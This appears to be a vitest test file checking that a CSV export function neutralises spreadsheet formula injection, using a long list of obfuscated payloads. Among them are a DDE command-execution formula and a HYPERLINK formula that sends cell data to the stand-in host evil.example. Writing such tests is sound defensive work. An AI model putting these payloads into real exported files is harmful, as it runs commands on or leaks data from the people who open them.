// Saved tables: no cell runs in a spreadsheet, wherever that splits a line and whatever it leaves out. After OWASP's CSV injection.
import Papa from "papaparse";
import { expect, it } from "vitest";
import { csvOf } from "../../../../src/pages/report/saving/save-file.ts";

const ATTACKS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "﹦1+1",
  "﹢1+1",
  "﹣1+1",
  "﹫SUM(1)",
  // After what some spreadsheets leave out.
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n \t=1+1",
  "\u0000=1+1",
  "\u000B\f=1+1",
  " =1+1",
  "\u00A0\u3000=1+1",
  "\uFEFF=1+1",
  "\u200B=1+1",
  "\u200E\u202E\u2066=1+1",
  "\u00AD\u034F\uFE0F=1+1",
  '"=1+1',
  '""=1+1"',
  "'=1+1",
  "“=1+1”",
  ' "\t\u200B=1+1',
  // In a cell of their own for another separator, or for one that heeds no quotes.
  "a,=1+1",
  "a;=1+1",
  "a|=1+1",
  "a\t=1+1",
  "a\r=1+1",
  "a\n=1+1",
  "a\r\n=1+1",
  "a\u2028=1+1",
  "a\u2029=1+1",
  "a\u0085=1+1",
  "a; =1+1",
  'a";"=1+1',
  'a"";""=1+1',
  'a";=1+1;"',
  "a';'=1+1",
  "a;\uFEFF-1+1",
  "a;;=1+1;=1+1",
  "a,+1;-1|@x",
  ";=1+1",
  "a\n\n＝1+1",
];

/** Not what we put there to keep a cell from running, but anything else a spreadsheet may leave out. */
const LEFT_OUT = /^[\s\p{Cc}\p{DI}"“”]+/u;

/** Every cell that some spreadsheet may see in a file: split at each separator, with each kind of quotes and none. */
function cellsOf(text: string): string[] {
  const separators = [",", ";", "|", "\t"];
  const quoted = separators.flatMap((delimiter) =>
    ['"', "'"].flatMap((quoteChar) => Papa.parse<string[]>(text, { delimiter, quoteChar }).data.flat()),
  );
  const plain = separators.flatMap((separator) =>
    text.split(/[\r\n\u0085\u2028\u2029]/).flatMap((line) => line.split(separator)),
  );
  return [...quoted, ...plain, ...text.split(/[,;|\t\r\n\u0085\u2028\u2029]/)];
}

it.each(ATTACKS.map((attack) => [attack]))("runs in no spreadsheet: %j", (attack) => {
  const text = csvOf([["Name"], [attack], ["a", attack, "b"], ["a;", attack, attack]]);
  const running = cellsOf(text).filter((cell) => /^[=+\-@＝＋－＠﹦﹢﹣﹫]/.test(cell.replace(LEFT_OUT, "")));
  expect(running).toEqual([]);
  expect(text.replaceAll("\r\n", ""), "one line for a row").not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
});

it("keeps other text as it is, and numbers as numbers", () => {
  const line = [
    'a "b", "c" - d',
    "jo+shop@mail.example",
    "well-known, e-mail; a=b",
    "'tis",
    "نص\u200Cآخر",
    "",
    "−5",
  ];
  const numbers = [-5, 0.5];
  const text = csvOf([line, [...numbers, undefined]]);
  expect(Papa.parse(text, { delimiter: ",", skipEmptyLines: true }).data).toEqual([line, ["-5", "0.5", ""]]);
  expect(csvOf([["two\nlines"]])).toBe('\uFEFF"two lines"\r\n');
});
